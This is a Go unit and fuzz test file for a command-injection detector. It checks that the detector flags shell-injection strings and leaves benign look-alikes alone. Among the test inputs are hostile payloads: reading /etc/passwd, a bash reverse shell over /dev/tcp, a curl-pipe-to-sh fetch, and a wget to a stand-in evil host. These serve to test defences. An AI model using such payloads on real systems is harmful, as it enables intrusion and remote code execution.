package injection

import "testing"

func TestCmdI(t *testing.T) {
	runDetectCases(t, "cmdi", []detectCase{
		{"semicolon cat", "; cat /etc/passwd", Query, 0, scoreStrong},
		{"pipe id", "| id", Query, 0, scoreStrong},
		{"and whoami", "x && whoami", Query, 0, scoreStrong},
		{"or uname", "x || uname -a", Query, 0, scoreStrong},
		{"backticks", "`whoami`", Query, 0, scoreStrong},
		{"glued backticks", `"` + "`true`" + `"`, Query, 0, scoreStrong},
		{"substitution", "$(curl http://x/s|sh)", JSONValue, 0, scoreStrong},
		{"ifs", "cat${IFS}/etc/passwd", Query, 0, scoreStrong},
		{"newline in query", "x\nid", Query, 0, scoreStrong},
		{"encoded newline", "x%0Aid", Query, 0, scoreStrong},
		{"quoted obfuscation", "; w'h'o'am'i", Query, 0, scoreStrong},
		{"absolute path", "a|/bin/sh -i", Query, 0, scoreStrong},
		{"sleep", "; sleep 5", Query, 0, scoreStrong},
		{"ping", "& ping -n 10 127.0.0.1 &", Query, 0, scoreStrong},
		{"windows", "| type c:\\windows\\win.ini", Query, 0, scoreStrong},
		{"reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", JSONValue, 0, scoreStrong},
		{"exec function", "system('id')", JSONValue, 0, scoreStrong},
		{"distinct command in prose", "Use this; curl is nice", JSONValue, 0, scoreLikely},
		{"command line value", "wget http://evil.example/x.sh", Query, 0, scoreLikely},
		{"command with option", "ping -i 30 127.0.0.1", Query, 0, scoreLikely},
		{"dir with drive", " dir c: |", Query, 0, scoreLikely},
		{"ambiguous word at high", "Ingredients; cat food", JSONValue, High, scoreWeak},
		// Benign.
		{"tom and jerry", "Tom & Jerry; cat food", JSONValue, 0, 0},
		{"markdown table", "| id | name |\n|----|------|\n| 1 | x |", JSONValue, 0, 0},
		{"markdown inline code", "run `ls -la` to list files", JSONValue, 0, 0},
		{"shell snippet in notes", "Steps:\nls -la\ncat README.md", JSONValue, 0, 0},
		{"jquery", "$(document).ready(fn)", JSONValue, 0, 0},
		{"code", "if (a || b) { return; }", JSONValue, 0, 0},
		{"direction", "dir", Query, 0, 0},
		{"country", "LS", Query, 0, 0},
		{"prose semicolon", "I came; I saw; I left", JSONValue, 0, 0},
	})
}

func FuzzCmdI(f *testing.F) {
	fuzzDetector(f, &cmdiDetector, "; cat /etc/passwd", "| id", "`id`", "$(whoami)", "${IFS}", "a;;;;;;", "system('id')", "c:\\windows\\cmd.exe /c")
}
